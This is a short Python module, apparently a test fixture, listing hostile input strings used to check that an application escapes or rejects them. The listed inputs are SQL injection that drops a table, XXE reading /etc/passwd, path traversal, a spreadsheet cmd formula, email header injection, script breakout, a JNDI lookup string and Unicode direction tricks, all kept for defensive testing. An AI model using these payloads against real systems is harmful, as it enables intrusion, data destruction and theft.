"""Texts that would do harm where somebody forgets that they are only texts."""

from __future__ import annotations

MARK = "<hwx"
MARKUP = "<hwx a=b onclick=hwx()>\"'&{{ 40|add:2 }}{% hwx %}#panic(1)"
"""HTML, a template, Typst. Where it is escaped, `&lt;hwx` stands in the page."""
SCRIPT = "</script><hwx>"
TWO_LINES = "Bcc: all@x.example\r\nBcc: hwx@x.example\r\n\r\nhwx"
QUERY = "'; DROP TABLE migrants_migrant; -- \\' OR 1=1"
XML = "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>"
PATH = "../../../etc/passwd"
UNSEEN = "\u202e\u202d\u2066Уⁿ\u200b\ufeff́́́´²³①"
"""Turned direction, no width, marks upon marks, digits that are none."""
NUL = "a\0b"
HALF = b"a\xed\xa0\x80b"
"""Half of a pair, as bytes that no encoder would write."""
LONG = "Ж" * 120_000
FORMULA = "=cmd|'/C calc'!A1"
NUMBER = "9" * 400

TEXTS = {
    "markup": MARKUP,
    "script": SCRIPT,
    "two lines": TWO_LINES,
    "query": QUERY,
    "xml": XML,
    "path": PATH,
    "unseen": UNSEEN,
    "nul": NUL,
    "half": HALF,
    "long": LONG,
    "formula": FORMULA,
    "number": NUMBER,
    "json": '{"$ne": null, "__proto__": {"a": 1}}',
    "format": "%s%n%(x)s {0.__class__} ${jndi:ldap://x}",
}
"""By what each would break."""
